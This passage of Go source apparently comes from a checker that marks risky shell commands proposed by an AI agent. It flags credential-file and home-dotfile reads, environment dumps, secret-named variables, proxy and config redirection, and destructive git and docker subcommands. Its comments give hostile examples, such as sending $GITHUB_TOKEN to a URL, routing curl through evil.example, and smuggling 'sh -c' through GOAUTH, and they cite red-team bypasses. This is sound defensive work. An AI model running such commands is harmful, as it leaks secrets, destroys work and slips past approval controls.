	c := path.Clean(strings.TrimPrefix(t, "./"))
	if c == "." || c == "" || strings.HasPrefix(c, "/") || strings.HasPrefix(c, "~") || strings.HasPrefix(c, "..") {
		return false // outside the project: other marks say so
	}
	for _, part := range strings.Split(path.Dir(c), "/") {
		if buildDirs[part] {
			return false
		}
	}
	base := path.Base(c)
	if buildDirs[base] || strings.HasPrefix(base, "*") {
		return false
	}
	if i := strings.LastIndexByte(base, '.'); i > 0 {
		ext := strings.ToLower(base[i:])
		if artifactExts[ext] || dataExts[ext] || documentExts[ext] {
			return false
		}
	}
	return true
}

// documentExts are notes and documents: deleting one is not deleting
// the program (though a runner may run them, dataflow.go).
var documentExts = set(".md", ".markdown", ".txt", ".rst", ".adoc")

// homeArea names the part of a home directory's dot files a path operand
// is in, as a mark: "home:~/.vnc/", "home:~/.config/NuGet/",
// "home:~/.Renviron"; or "" for a path elsewhere (the project included).
// Every tool keeps its settings, and many their tokens, there, and no list
// of credential files is complete (the eleventh to fifteenth red-team
// passes each found more), so a read there is learned for that tool's
// corner only: approving `cat ~/.bashrc` says nothing of ~/.vnc/passwd,
// as the file tools' home-dotfile ladder does.
func (w walker) homeArea(t word) string {
	p := w.abs(t)
	if p == "" || w.home == "" || !strings.HasPrefix(p, w.home+"/.") {
		return ""
	}
	if w.cwd != "" && (p == w.cwd || strings.HasPrefix(p, strings.TrimSuffix(w.cwd, "/")+"/")) {
		return ""
	}
	parts := strings.Split(strings.TrimPrefix(p, w.home+"/"), "/")
	n := 1
	if len(parts) > 2 && (parts[0] == ".config" || parts[0] == ".local" || parts[0] == ".cache") {
		n = 2 // ~/.config/NuGet/, ~/.local/share/…
		if parts[0] == ".local" && len(parts) > 3 {
			n = 3
		}
	}
	if len(parts) <= n {
		return "home:~/" + strings.Join(parts, "/")
	}
	return "home:~/" + strings.Join(parts[:n], "/") + "/"
}

// outside reports whether a path operand lies outside the working
// directory and /tmp.
func (w walker) outside(t string) bool {
	switch {
	case t == "~" || strings.HasPrefix(t, "~/"):
		if w.home == "" {
			return true
		}
		t = w.home + t[1:]
	case strings.HasPrefix(t, "~"):
		return true // ~root/.bashrc: a home directory, never the workspace
	case !strings.HasPrefix(t, "/"):
		h := w.here()
		if h == w.cwd {
			return strings.HasPrefix(path.Clean(t), "..")
		}
		if h == "" {
			return true
		}
		t = path.Join(h, t) // run in another directory: the path is there
	}
	t = path.Clean(t)
	if t == "/tmp" || strings.HasPrefix(t, "/tmp/") || harmlessSink(t) {
		return false
	}
	return w.cwd == "" || w.cwd == "/" || (t != w.cwd && !strings.HasPrefix(t, w.cwd+"/"))
}

// envDumpMark marks a command that prints the environment, where tokens
// and keys live: env, printenv, set, export -p, cat /proc/self/environ.
const envDumpMark = "secret-env"

// envDump reports whether a command prints environment variables: env
// with no command (seen through otherwise), printenv, set alone, ps's e
// option, or a read of a process's environ file.
func envDump(prog string, args []word) bool {
	switch prog {
	case "env", "printenv":
		return true // env with a command is seen through and never keyed as env
	case "set":
		return len(args) == 0
	case "ps":
		for _, a := range args {
			t := a.text
			if !strings.HasPrefix(t, "-") && strings.ContainsAny(t, "eE") {
				return true // BSD e: the environment after each command
			}
			if strings.HasPrefix(t, "-") && !strings.HasPrefix(t, "--") && strings.Count(t, "e") > 1 {
				return true
			}
		}
	case "compgen":
		return false
	case "jq", "gojq", "jaq":
		// env and $ENV in a jq program are the environment.
		for _, a := range args {
			if !strings.HasPrefix(a.text, "-") && (jqEnv.MatchString(a.text)) {
				return true
			}
		}
	case "make", "gmake":
		for _, a := range args {
			if a.text == "-p" || a.text == "--print-data-base" || strings.HasPrefix(a.text, "-") && !strings.HasPrefix(a.text, "--") && strings.Contains(a.text, "p") && len(a.text) < 6 {
				return true // the database holds every variable, the environment's included
			}
		}
	case "npm", "pnpm", "yarn", "bun":
		// npm run env prints the environment scripts run with.
		for i, a := range args {
			if a.text == "env" && i > 0 && (args[i-1].text == "run" || args[i-1].text == "run-script") {
				return true
			}
		}
	}
	for _, a := range args {
		if environFile(a.text) {
			return true
		}
	}
	return secretVars(args)
}

var jqEnv = regexp.MustCompile(`(^|[^A-Za-z0-9_.$])(env|\$ENV|\$__loc__)\b`)

// secretVarName matches the names people give the variables that hold
// credentials: $GITHUB_TOKEN, $AWS_SECRET_ACCESS_KEY, $DB_PASSWORD.
var secretVarName = regexp.MustCompile(`(?i)(TOKEN|SECRET|PASSW|PASSPHRASE|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIAL|AUTH|COOKIE|SESSION_?ID|^AWS_|^GH_|^GITHUB_|^NPM_|^OPENAI_|^ANTHROPIC_|^GOOGLE_APPLICATION|^AZURE_|^VAULT_|^DOCKER_PASS|^PGPASS|^MYSQL_PWD)`)

var paramRef = regexp.MustCompile(`\$\{?!?([A-Za-z_][A-Za-z0-9_]*)`)

// secretVars reports whether an argument expands a variable whose name
// says it holds a credential (echo $AWS_SECRET_ACCESS_KEY, curl
// "https://x/?k=$GITHUB_TOKEN"), or expands variables indirectly (${!v}),
// which can read any.
func secretVars(args []word) bool {
	for _, a := range args {
		if a.lit && !a.computed {
			continue
		}
		if strings.Contains(a.text, "${!") {
			return true
		}
		for _, m := range paramRef.FindAllStringSubmatch(a.text, -1) {
			if secretVarName.MatchString(m[1]) {
				return true
			}
		}
	}
	return false
}

// environFile reports whether a path names a process's environment.
func environFile(p string) bool {
	return p == "environ" || strings.HasSuffix(p, "/environ") || strings.HasSuffix(p, "/environ*") || strings.HasPrefix(p, "/proc/") && strings.Contains(p, "environ")
}

// readMark is the mark of a file a redirection reads: a secret, or a
// process's environment.
func readMark(target word) string {
	switch {
	case environFile(target.text):
		return envDumpMark
	case !target.lit:
		return ""
	case isSecretPath(target.text) || target.glob && isSecretPath(strings.TrimRight(target.text, "*?")):
		return "secret-file"
	}
	return ""
}

// configEnvNames move where a program reads its configuration from (HOME=src
// git status reads src/.gitconfig, CURL_HOME=src curl reads src/.curlrc):
// to a file the agent may have written.
var configEnvNames = set("HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_CONFIG_DIRS", "CURL_HOME", "WGETRC", "GIT_CONFIG",
	"GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_CONFIG_COUNT", "GIT_EXEC_PATH", "GIT_TEMPLATE_DIR", "NPM_CONFIG_USERCONFIG",
	"NPM_CONFIG_GLOBALCONFIG", "npm_config_userconfig", "npm_config_globalconfig", "YARN_RC_FILENAME", "PIP_CONFIG_FILE",
	"CARGO_HOME", "GOENV", "PYTHONSTARTUP", "PYTHONPATH", "NODE_OPTIONS", "NODE_PATH", "BASH_ENV", "ENV", "ZDOTDIR", "INPUTRC",
	"MAKEFILES", "DOCKER_CONFIG", "KUBECONFIG", "SSH_CONFIG", "GNUPGHOME",
	// where code is fetched from, and whether it is checked
	"GOPROXY", "GOSUMDB", "GONOSUMDB", "GONOSUMCHECK", "GOINSECURE", "GOTOOLCHAIN", "GOPRIVATE", "GONOPROXY", "GOPATH", "GOCACHE",
	"GOMODCACHE", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_TRUSTED_HOST", "UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "POETRY_REPOSITORIES",
	"RUSTUP_TOOLCHAIN", "RUSTUP_HOME", "RUSTUP_DIST_SERVER", "YARN_NPM_REGISTRY_SERVER", "BUNDLE_MIRROR", "GEM_HOME", "GEM_SOURCE",
	// where requests go, and whom they trust: a proxy sees every request
	// of an approved command (https_proxy=http://evil.example curl …)
	"http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "all_proxy", "ftp_proxy", "FTP_PROXY", "no_proxy", "NO_PROXY",
	"GIT_SSL_NO_VERIFY", "NODE_TLS_REJECT_UNAUTHORIZED")

// harmlessEnv are variables whose value no program runs or reads a file
// from: modes, levels, targets, colours, locales. Any other assignment
// before a command is a mark of its own (env:NAME), since what a program
// makes of a variable is the program's to say: GOAUTH='sh -c …' go build
// runs the command, RUSTDOCFLAGS='-C linker=sh' cargo test a linker (the
// thirteenth red-team pass), and execEnv cannot list them all.
var harmlessEnv = set("NODE_ENV", "RAILS_ENV", "RACK_ENV", "APP_ENV", "FLASK_ENV", "MIX_ENV", "DEBUG", "CI", "TZ", "LANG", "LANGUAGE",
	"LC_ALL", "LC_CTYPE", "LC_MESSAGES", "LC_COLLATE", "LC_NUMERIC", "LC_TIME", "RUST_LOG", "RUST_BACKTRACE", "RUST_MIN_STACK", "GOOS",
	"GOARCH", "GOARM", "GOAMD64", "CGO_ENABLED", "GOMAXPROCS", "GOGC", "GOMEMLIMIT", "GOTRACEBACK", "GODEBUG", "GOEXPERIMENT", "GOFIPS140",
	"PORT", "HOST", "FORCE_COLOR", "NO_COLOR", "CLICOLOR", "CLICOLOR_FORCE", "TERM", "COLORTERM", "COLUMNS", "LINES", "PYTHONUNBUFFERED",
	"PYTHONDONTWRITEBYTECODE", "PYTHONHASHSEED", "PYTHONWARNINGS", "PYTHONIOENCODING", "PYTHONUTF8", "VERBOSE", "LOG_LEVEL", "LOGLEVEL",
	"NODE_NO_WARNINGS", "CARGO_TERM_COLOR", "CARGO_INCREMENTAL", "CARGO_PROFILE_RELEASE_DEBUG", "TF_LOG", "TF_IN_AUTOMATION",
	"GIT_TERMINAL_PROMPT", "GIT_PAGER_IN_USE", "HUSKY", "SKIP", "DISABLE_OPENCOLLECTIVE", "ADBLOCK", "NEXT_TELEMETRY_DISABLED",
	"DOTNET_CLI_TELEMETRY_OPTOUT", "TIMEOUT", "JOBS", "RELEASE", "VERSION", "NUM", "COUNT", "SEED", "UPDATE_SNAPSHOTS", "TEST", "ENVIRONMENT")

// envMarks are the env:NAME marks of the assignments before a command
// that are neither harmless nor already seen through (execEnv's, the
// configuration variables of config-env).
func envMarks(before []word) []string {
	var out []string
	for _, w := range before {
		name, _, ok := strings.Cut(w.text, "=")
		if !ok || !isAssignment(w.text) || harmlessEnv[name] || strings.HasPrefix(name, "LC_") {
			continue
		}
		out = append(out, "env:"+name)
	}
	return out
}

// configEnv reports whether the assignments before a command (words that
// are NAME=value) move where it reads configuration from.
func configEnv(before []word) bool {
	for _, w := range before {
		if name, _, ok := strings.Cut(w.text, "="); ok && isAssignment(w.text) && configEnvNames[name] {
			return true
		}
		if name, value, ok := strings.Cut(w.text, "="); ok && isAssignment(w.text) && (pathEnv(name, value) || !w.lit && pathEnv(name, "/")) {
			return true // GIT_INDEX_FILE=/tmp/x git add -A writes its index there
		}
		if name, _, ok := strings.Cut(w.text, "="); ok && (strings.HasPrefix(name, "GIT_CONFIG_") || strings.HasPrefix(strings.ToLower(name), "npm_config_") || strings.HasPrefix(name, "CARGO_REGISTRIES_") || strings.HasPrefix(name, "PIP_")) {
			return true
		}
	}
	return false
}

// readsPatchFromStdin reports whether git apply or git am would apply a
// patch read from its input: curl … | git apply changes the project with
// what a server sent.
func readsPatchFromStdin(prog, sub string, args []word) bool {
	if prog != "git" || sub != "apply" && sub != "am" && sub != "apply --index" {
		return false
	}
	for _, a := range args[1:] {
		if a.text == "-" {
			return true
		}
		if !strings.HasPrefix(a.text, "-") && a.text != sub {
			return false // a patch file
		}
	}
	return true
}

// makefileMarks: make run on a makefile other than the project's own
// (-f FILE, --file=FILE, -fFILE, or through MAKEFLAGS) runs what that file
// says, which an approval of make in the project says nothing about.
func makefileMarks(before, args []word) []string {
	standard := set("Makefile", "makefile", "GNUmakefile", "./Makefile", "./makefile", "./GNUmakefile")
	other := func(f string) bool { return f != "" && !standard[f] }
	for i, a := range args {
		t := a.text
		switch {
		case (t == "-f" || t == "--file" || t == "--makefile") && i+1 < len(args):
			if other(args[i+1].text) {
				return []string{"other-makefile"}
			}
		case strings.HasPrefix(t, "--file=") || strings.HasPrefix(t, "--makefile="):
			_, f, _ := strings.Cut(t, "=")
			if other(f) {
				return []string{"other-makefile"}
			}
		case strings.HasPrefix(t, "-f") && len(t) > 2 && !strings.HasPrefix(t, "--"):
			if other(t[2:]) {
				return []string{"other-makefile"}
			}
		}
	}
	for _, w := range before {
		for _, env := range []string{"MAKEFLAGS=", "GNUMAKEFLAGS=", "MFLAGS="} {
			if v, ok := strings.CutPrefix(w.text, env); ok && (strings.Contains(v, "-f") || strings.Contains(v, "--file") || strings.Contains(v, "--makefile")) {
				return []string{"other-makefile"}
			}
		}
	}
	return nil
}

// optionValues returns what an option word may name as a file: after its
// "=" (--file=.env), after an "@" (-H@file, @file), and the rest of a short
// option (-F.env).
func optionValues(t string) []string {
	var out []string
	if _, v, ok := strings.Cut(t, "="); ok && v != "" {
		out = append(out, strings.TrimPrefix(v, "@"))
	}
	if i := strings.IndexByte(t, '@'); i >= 0 && i+1 < len(t) {
		out = append(out, t[i+1:])
	}
	if len(t) > 2 && t[1] != '-' {
		out = append(out, strings.TrimPrefix(t[2:], "@"))
	}
	return out
}

// discardsChanges reports whether git checkout or git restore is given
// paths (not only a branch): :/, ., a glob, a tree-ish and paths, a
// word that reads as a file (src/app.js, ./x, Makefile), --ours/--theirs
// or a pathspec file, which overwrite uncommitted work with no way back.
// git restore of any path does, unless it only unstages (--staged).
func discardsChanges(sub string, args []word) bool {
	operands, staged, worktree := 0, false, false
	fileLike := false
	start := 0
	for start < len(args) && args[start].text != sub {
		start++ // git's own options before the subcommand
	}
	for i := start + 1; i < len(args); i++ {
		a := args[i]
		t := a.text
		if strings.HasPrefix(t, "-") {
			switch {
			case t == "-b" || t == "-B" || t == "--orphan" || t == "-c" || t == "-C":
				return false // a new branch
			case t == "--ours" || t == "--theirs" || strings.HasPrefix(t, "--pathspec-from-file"):
				return true
			case t == "--staged" || t == "-S":
				staged = true
			case t == "--worktree" || t == "-W":
				worktree = true
			case t == "-s" || t == "--source":
				i++ // its value, a tree-ish
			}
			continue
		}
		operands++
		if t == "." || t == "./" || t == ".." || strings.HasPrefix(t, ":/") || strings.HasPrefix(t, ":(") || a.glob || strings.ContainsAny(t, "*?[") {
			return true
		}
		fileLike = fileLike || looksLikeFile(t)
	}
	if sub == "restore" {
		return operands > 0 && (!staged || worktree)
	}
	return operands > 1 || fileLike
}

// looksLikeFile reports whether a git checkout operand reads as a file,
// not a branch: a path from here or the root, a name with an extension
// (app.js; a tag like v1.2 reads so too, and is asked), or a file every
// project has.
func looksLikeFile(t string) bool {
	if strings.HasPrefix(t, "./") || strings.HasPrefix(t, "../") || strings.HasPrefix(t, "/") || strings.HasSuffix(t, "/") {
		return true
	}
	base := path.Base(t)
	if commonFiles[base] {
		return true
	}
	dot := strings.LastIndexByte(base, '.')
	return dot > 0 && dot < len(base)-1 && isLetters(base[dot+1:])
}

// commonFiles are names a project's files have and its branches do not.
var commonFiles = set("Makefile", "makefile", "GNUmakefile", "Dockerfile", "README", "LICENSE", "Justfile", "Procfile", "Gemfile", "Rakefile", "Vagrantfile", "Jenkinsfile", "CODEOWNERS")

// destroyingSubs are subcommands that delete, with no way back, what a
// program keeps: git's stashes, unreachable objects, reflogs, notes,
// worktrees, remotes and rewritten history, docker's containers, images
// and volumes. Each is marked destroys, so approving `git status` or
// `docker ps` (or `git stash`) vouches for nothing about them. A key is
// "program subcommand" or "program subcommand operand" (git reflog
// expire); flags that destroy (git branch -D, git tag -d, git update-ref
// -d) are riskyTable's.
var destroyingSubs = set(
	"git stash drop", "git stash clear", "git prune", "git prune-packed", "git worktree prune", "git worktree remove",
	"git notes prune", "git notes remove", "git reflog expire", "git reflog delete", "git filter-branch", "git filter-repo",
	"git remote remove", "git remote rm", "git lfs prune", "git rerere clear", "git rerere forget",
	"docker system prune", "docker volume prune", "docker volume rm", "docker image prune", "docker image rm", "docker container prune",
	"docker container rm", "docker network prune", "docker builder prune", "docker buildx prune", "docker rm", "docker rmi",
	"docker compose down", "docker compose rm", "docker-compose down", "docker-compose rm",
	"podman system prune", "podman system reset", "podman volume prune", "podman volume rm", "podman image prune", "podman rm", "podman rmi",
	"podman container prune", "podman compose down", "podman-compose down",
)

// destroys reports whether a command is one of destroyingSubs.
func destroys(prog string, args []word) bool {
	sub := subcommand(prog, args)
	if sub == "" {
		return false
	}
	if destroyingSubs[prog+" "+sub] {
		return true
	}
	if v := composeVerb(append([]word{{text: prog, lit: true}}, args...)); v != "" {
		return destroyingSubs[prog+" compose "+v] || destroyingSubs[prog+" "+v]
	}
	// the operand after the subcommand: git reflog expire
	first := strings.Fields(sub)[0]
	seen := false
	for _, a := range args {
		if !seen {
			seen = a.text == first
			continue
		}
		if a.lit && !strings.HasPrefix(a.text, "-") {
			return destroyingSubs[prog+" "+first+" "+a.text]
		}
	}
	return false
}

// makeEnv reports whether make's command-line variables (make NAME=value
// …, which make exports to its recipes) move configuration or name
// programs: make HOME=src test, make LD_PRELOAD=x.so build, make
// GOFLAGS=-toolexec=x build.
func makeEnv(args []word) bool {
	var assigns []word
	for _, a := range args {
		if a.lit && isAssignment(a.text) {
			assigns = append(assigns, a)
			if name, _, _ := strings.Cut(a.text, "="); envRuns(name) != envNone {
				return true
			}
		}
	}
	return configEnv(assigns)
}

// pytestValued are pytest's options that take a value (its own and its
// common plugins').
var pytestValued = set("-k", "-m", "-o", "-c", "-p", "-n", "-r", "-W", "--rootdir", "--confcutdir", "--basetemp", "--junitxml", "--junit-xml",
	"--tb", "--maxfail", "--durations", "--deselect", "--ignore", "--ignore-glob", "--log-level", "--cov", "--cov-report", "--cov-config",
	"--timeout", "--dist", "--import-mode", "--capture", "--color", "--override-ini", "--config-file", "--log-file", "--html", "--reruns",
	"--count", "--randomly-seed", "--cache-show", "--deselect", "--durations-min", "--max-worker-restart", "--tx", "--rsyncdir")

// pytestOutside reports whether pytest runs tests, or finds its
// configuration, in a directory outside the workspace (/tmp included):
// pytest /tmp/evil imports /tmp/evil/conftest.py, --rootdir and
// --confcutdir move where conftest.py files are loaded from. Approving
// pytest in the project says nothing about another directory's code.
func (w walker) pytestOutside(args []word) bool {
	for i := 0; i < len(args); i++ {
		a := args[i]
		t := a.text
		if a.lit && strings.HasPrefix(t, "-") {
			name, v, hasValue := strings.Cut(t, "=")
			if name == "--rootdir" || name == "--confcutdir" || name == "-c" || name == "--config-file" || name == "--cov-config" {
				if !hasValue && i+1 < len(args) {
					v = args[i+1].text
				}
				if v != "" && w.leavesWorkspace(v) {
					return true
				}
			}
			if !hasValue && pytestValued[t] {
				i++
			}
			continue
		}
		p, _, _ := strings.Cut(t, "::")
		if !a.lit || w.leavesWorkspace(p) {
			return true
		}
	}
	return false
}
